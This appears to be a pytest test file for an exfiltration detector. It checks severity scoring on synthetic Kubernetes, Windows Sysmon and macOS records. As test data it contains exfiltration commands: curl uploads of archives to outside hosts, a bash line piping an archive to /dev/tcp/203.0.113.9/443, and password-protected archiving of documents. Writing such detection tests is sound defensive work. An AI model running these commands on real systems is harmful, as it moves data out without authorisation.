"""Precision on real workloads (issue 12), through `detect` on records in the producers' formats:
a backup job is known by what its code cannot write, and on a host only traffic tied to the
archive carries it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers import tetragon_pod
from tidewaiter import fleet
from tidewaiter.cli.main import main

ROOT = Path(__file__).resolve().parents[2]
BACKUP = ROOT / "scenarios" / "benign" / "pg-dump-gzip-aws-s3-backup" / "tetragon.jsonl"


def detect(capsys: pytest.CaptureFixture[str], *argv: str) -> list[dict[str, object]]:
    assert main(["detect", "--json", *argv]) == 0
    return [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.strip()]


def as_api_replica(text: str) -> str:
    """The same records in a replica of the ledger's web API Deployment."""
    return (
        text.replace('"workload_kind":"CronJob"', '"workload_kind":"Deployment"')
        .replace('"workload":"ledger-db-backup"', '"workload":"ledger-api"')
        .replace("ledger-db-backup-29518020-5rk8d", "ledger-api-6b9f7d8c4-hx2zq")
    )


def test_a_backup_cronjob_stays_low_and_the_same_commands_in_a_web_api_stay_high(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # No --allow-destination: the bucket is not declared, so only the job's identity can lower.
    [job] = detect(capsys, str(BACKUP))
    assert job["severity"] == "Low"
    reasons = json.dumps(job)
    assert "a CronJob (ledger/ledger-db-backup)" in reasons

    api = tmp_path / "api.jsonl"
    api.write_text(as_api_replica(BACKUP.read_text()))
    [alert] = detect(capsys, str(api))
    assert alert["severity"] in ("High", "Critical")
    text = json.dumps(alert)
    assert "not lowered as a database dump" in text
    assert "a Deployment (ledger/ledger-api)" in text


def _exec(
    line: dict[str, object], pid: int, binary: str, arguments: str, time: str
) -> dict[str, object]:
    out = json.loads(json.dumps(line))
    process = out["process_exec"]["process"]  # type: ignore[index]
    process.update(
        pid=pid,
        binary=binary,
        arguments=arguments,
        start_time=time,
        exec_id=f"aXA6{pid}",
    )
    out["time"] = time
    return out


@pytest.mark.parametrize(
    ("archiver", "uploader"),
    [
        # issue 11 class 2: words inside the attacker's own command switch on no profile
        ("/usr/bin/zip -r /tmp/a.zip /data -x 'pip install*'", "curl -T /tmp/a.zip https://x.io/"),
        ("/bin/tar czf /tmp/app.log.gz /data", "curl -T /tmp/app.log.gz https://x.io/"),
        (
            "/bin/tar czf /tmp/b.tgz /data --label 'etcdctl snapshot save'",
            "curl -T /tmp/b.tgz https://x.io/",
        ),
    ],
)
def test_text_inside_an_api_replica_lowers_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], archiver: str, uploader: str
) -> None:
    first = json.loads(as_api_replica(BACKUP.read_text().splitlines()[0]))
    binary, _, arguments = archiver.partition(" ")
    tool, _, rest = uploader.partition(" ")
    lines = [
        _exec(first, 40, "/usr/local/bin/restic", "version", "2026-03-02T02:00:00Z"),
        _exec(first, 41, binary, arguments, "2026-03-02T02:00:01Z"),
        _exec(first, 42, f"/usr/bin/{tool}", rest, "2026-03-02T02:00:05Z"),
    ]
    path = tmp_path / "t.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    [alert] = detect(capsys, str(path))
    assert alert["severity"] in ("High", "Critical")


# --- hosts: Sysmon records of a Windows desktop --------------------------------------------

TEAMS = fleet.TEAMS.format(u="a.lee")
ONEDRIVE = fleet.ONEDRIVE.format(u="a.lee")


def desktop_records(upload: str | None) -> str:
    """A morning on a desktop: Teams and OneDrive, started at logon, talk to the internet all
    along; the user zips a folder and robocopies it to the team share; maybe an upload."""
    day = fleet.Day()
    sysmon = fleet.Sysmon(day)
    desk = fleet.Desktop("ACC-WS-0107.corp.example.com", "a.lee", "10.20.4.17", "0x3e7a1")
    t = fleet.START + 14 * 3600
    sysmon.connect(desk, 2, TEAMS, "52.112.0.10", 443, t - 240)
    sysmon.connect(desk, 3, ONEDRIVE, "13.107.42.12", 443, t - 140)
    zipped = "C:\\Users\\a.lee\\Q3.zip"
    zip_cmd = (
        'powershell.exe -Command "Compress-Archive -Path C:\\Users\\a.lee\\Documents\\Q3\\* '
        f'-DestinationPath {zipped}"'
    )
    sysmon.start(desk, 10, fleet.PS, zip_cmd, t, 1)
    sysmon.file(desk, 10, fleet.PS, zipped, t + 2)
    copy = "robocopy C:\\Users\\a.lee \\\\fs01\\finance Q3.zip"
    sysmon.start(desk, 11, fleet.ROBOCOPY, copy, t + 29, 1)
    sysmon.connect(desk, 11, fleet.ROBOCOPY, "10.20.0.5", 445, t + 30)
    sysmon.connect(desk, 2, TEAMS, "52.112.0.10", 443, t + 111)
    sysmon.connect(desk, 3, ONEDRIVE, "13.107.42.12", 443, t + 209)
    sysmon.connect(desk, 2, TEAMS, "52.113.194.132", 443, t + 239)
    if upload:
        sysmon.start(desk, 12, fleet.CURL_EXE, upload, t + 289, 1)
        sysmon.connect(desk, 12, fleet.CURL_EXE, "203.0.113.77", 443, t + 290)
    return day.sysmon_text()


def test_a_desktop_zip_to_a_share_is_not_exfiltrated_by_teams_and_onedrive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_text(desktop_records(None))
    alerts = detect(capsys, str(path))
    assert [a["severity"] for a in alerts] == ["Low"]
    [finding] = alerts
    analytic = finding["finding_info"]["analytic"]["uid"]  # type: ignore[index]
    assert analytic in ("tw-archive-created", "tw-archive-internal")
    text = json.dumps(finding)
    assert "context, not evidence" in text
    assert "Teams.exe to 52.112.0.10:443" in text


def test_a_desktop_upload_tied_to_the_zip_is_still_high(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "sysmon.xml"
    path.write_text(desktop_records("curl.exe -T C:\\Users\\a.lee\\Q3.zip https://203.0.113.77/u"))
    [alert] = [a for a in detect(capsys, str(path)) if a["severity"] != "Low"]
    assert alert["severity"] in ("High", "Critical")
    assert "203.0.113.77" in json.dumps(alert)


# --- baselines: a nightly backup CronJob learned across two weeks ------------------------

_CID = "ac0dc4ec606858b34eccba0ebd1857cdd79a45c77e6d1fde34d178fef73924a1"


def night(day: int, address: str | None = None, bucket: str | None = None) -> str:
    """The backup CronJob's records for another night: a new pod and container each night,
    the object store answering from another address of its range."""
    date = f"2026-03-{2 + day:02d}"
    cid = f"{day + 1:02x}" + _CID[2:]
    text = (
        BACKUP.read_text()
        .replace("2026-03-02", date)
        .replace(_CID, cid)
        .replace(_CID[:31], cid[:31])
        .replace("29518020-5rk8d", f"{29518020 + 1440 * day}-n{day:04d}")
        .replace("192.0.2.133", address or f"192.0.2.{130 + day % 5}")
    )
    return text.replace("corp-ledger-backups", bucket) if bucket else text


def test_a_learned_nightly_backup_scores_informational_on_an_ordinary_night(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "tw.duckdb")
    for day in range(14):
        path = tmp_path / f"night-{day}.jsonl"
        path.write_text(night(day))
        assert main(["detect", "--json", "--db", db, "--learn", str(path)]) == 0
    capsys.readouterr()
    ordinary = tmp_path / "night-14.jsonl"
    ordinary.write_text(night(14))
    [finding] = detect(capsys, "--db", db, str(ordinary))
    text = json.dumps(finding)
    assert finding["severity"] == "Informational", text
    assert "never seen" not in text
    assert "is usual for" in text

    # The same job sending to an address and bucket it never used is not routine.
    odd = tmp_path / "night-odd.jsonl"
    odd.write_text(night(14, address="203.0.113.9", bucket="exfil-drop"))
    [finding] = detect(capsys, "--db", db, str(odd))
    assert finding["severity"] not in ("Informational", "Low")
    assert "never seen" in json.dumps(finding)


# --- a plan is not a deed ------------------------------------------------------------------

CMD = "C:\\Windows\\System32\\cmd.exe"


@pytest.mark.parametrize(
    ("line", "image"),
    [
        ('cmd.exe /c "7z.exe u archive.7z -pblue C:\\Users\\a.lee\\Documents\\*"', fleet.SEVENZIP),
        (
            'cmd.exe /c ""C:\\Program Files\\WinRAR\\Rar.exe" a -r -hpblue hr.rar C:\\HR\\*"',
            "C:\\Program Files\\WinRAR\\Rar.exe",
        ),
    ],
)
def test_an_archiver_named_in_a_shell_line_that_never_started_is_at_most_low(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, image: str
) -> None:
    day = fleet.Day()
    sysmon = fleet.Sysmon(day)
    desk = fleet.Desktop("ACC-WS-0107.corp.example.com", "a.lee", "10.20.4.17", "0x3e7a1")
    t = fleet.START + 14 * 3600
    sysmon.start(desk, 30, CMD, line, t, 1)
    path = tmp_path / "plan.xml"
    path.write_text(day.sysmon[0][1])
    [attempt] = detect(capsys, str(path))
    assert attempt["severity"] == "Low"
    assert "attempted; the archiver did not start" in json.dumps(attempt)
    # Sysmon records every start: with the archiver's own start it is the deed again.
    sysmon.start(desk, 31, image, line.split('/c "', 1)[1].rstrip('"'), t + 1, 30)
    path.write_text(day.sysmon_text())
    [deed] = detect(capsys, str(path))
    assert deed["severity"] == "Medium"
    assert "did not start" not in json.dumps(deed)


# --- a workload's daily routine ----------------------------------------------------------


def export_day(
    folder: Path, day: int, bucket: str = "corp-customer-exports", size: int = 8_000_000
) -> Path:
    """An export worker (a Deployment) zips a customer's data and copies it to the company's
    bucket, once a day, in Tetragon records."""
    records, writer, pod = tetragon_pod(
        "exports",
        "export-worker",
        "Deployment",
        "registry.example.com/exports/worker:3.2",
        "export-worker-6b9f7d8c4-hx2zq",
        "10.2.7.40",
    )
    t = fleet.START + day * fleet.DAY + 40_000 + 300 * day
    zipped = f"/tmp/export-cust{300 + day}-{fleet.iso(t)[:10]}.zip"
    writer.exec(pod, 200 + day, "/usr/bin/zip", f"-r -q {zipped} /data/cust{300 + day}", t)
    aws = (300 + day, "/usr/local/bin/aws", f"s3 cp {zipped} s3://{bucket}/", t + 40)
    writer.exec(pod, aws[0], aws[1], aws[2], aws[3])
    writer.flow(pod, aws, t + 41, f"52.217.{day}.{20 + day}", 443, size, 3)
    path = folder / f"export-{day}-{bucket}-{size}.jsonl"
    path.write_bytes(records.tetragon_bytes())
    return path


def test_an_export_workers_daily_upload_is_informational_after_two_days_of_history(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "tw.duckdb")
    severities = []
    for day in range(3):
        [finding] = detect(capsys, "--db", db, "--learn", str(export_day(tmp_path, day)))
        severities.append(finding["severity"])
    assert severities[:2] == ["Critical", "Critical"]  # no history yet: the static rules
    assert severities[2] == "Informational"
    [routine] = detect(capsys, "--db", db, str(export_day(tmp_path, 3)))
    assert routine["severity"] == "Informational"
    assert "a routine of k8s:exports/Deployment/export-worker" in json.dumps(routine)
    # A new bucket, or forty times the volume, is not the routine.
    [new] = detect(capsys, "--db", db, str(export_day(tmp_path, 3, bucket="drop-zone")))
    assert new["severity"] == "Critical"
    [big] = detect(capsys, "--db", db, str(export_day(tmp_path, 3, size=320_000_000)))
    assert big["severity"] == "Critical"


def test_a_url_host_is_internal_when_its_connection_went_to_an_internal_address(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records, writer, pod = tetragon_pod(
        "reports",
        "reporter",
        "Deployment",
        "registry.example.com/reports/app:2",
        "reporter-6b9f7d8c4-q2w3e",
        "10.2.9.9",
    )
    t = fleet.START
    writer.exec(pod, 10, "/bin/tar", "czf /tmp/r.tgz /srv/reports", t)
    curl = (11, "/usr/bin/curl", "-T /tmp/r.tgz https://files.corp.example.com/in/", t + 5)
    writer.exec(pod, curl[0], curl[1], curl[2], curl[3])
    writer.flow(pod, curl, t + 6, "10.20.0.5", 443, 4_000_000, 2)
    path = tmp_path / "internal.jsonl"
    path.write_bytes(records.tetragon_bytes())
    [finding] = detect(capsys, str(path))
    assert finding["severity"] == "Low"
    assert finding["finding_info"]["analytic"]["uid"] == "tw-archive-internal"  # type: ignore[index]


def _eslogger_rename(executable: str, source: str, target: str) -> str:
    line = json.loads(
        next(
            line
            for line in (ROOT / "tests" / "fixtures" / "eslogger" / "events.jsonl")
            .read_text()
            .splitlines()
            if '"rename"' in line
        )
    )
    line["process"]["executable"]["path"] = executable
    line["event"]["rename"]["source"]["path"] = source
    folder, _, name = target.rpartition("/")
    line["event"]["rename"]["destination"]["new_path"]["dir"]["path"] = folder + "/"
    line["event"]["rename"]["destination"]["new_path"]["filename"] = name
    return json.dumps(line) + "\n"


def test_a_download_renamed_to_an_archive_name_is_not_an_archive_made(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    downloads = "/Users/alice/Downloads"
    path = tmp_path / "es.jsonl"
    path.write_text(
        _eslogger_rename(
            "/Applications/Safari.app/Contents/MacOS/Safari",
            f"{downloads}/report.zip.download",
            f"{downloads}/report.zip",
        )
    )
    assert detect(capsys, "--assume-host", "mbp", str(path)) == []
    path.write_text(_eslogger_rename("/bin/mv", "/tmp/stage.bin", "/tmp/stage.zip"))
    [made] = detect(capsys, "--assume-host", "mbp", str(path))
    assert made["finding_info"]["analytic"]["uid"] == "tw-archive-created"  # type: ignore[index]


def test_a_log_named_archive_sent_by_dev_tcp_is_not_held_back_as_log_rotation(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records, writer, pod = tetragon_pod(
        "web",
        "nginx",
        "Deployment",
        "docker.io/library/nginx:1.27",
        "nginx-6b9f7d8c4-ab2cd",
        "10.2.4.4",
    )
    t = fleet.START
    writer.exec(pod, 20, "/bin/tar", "czf /var/log/nginx/access.log.1.gz /etc /srv", t)
    bash = (21, "/bin/bash", "-c 'cat /var/log/nginx/access.log.1.gz > /dev/tcp/203.0.113.9/443'")
    writer.exec(pod, *bash, t + 5)
    writer.flow(pod, (*bash, t + 5), t + 6, "203.0.113.9", 443, 9_000_000, 3)
    path = tmp_path / "devtcp.jsonl"
    path.write_bytes(records.tetragon_bytes())
    [alert] = detect(capsys, str(path))
    assert alert["severity_id"] >= 3
    assert "not held back as log rotation" in json.dumps(alert)
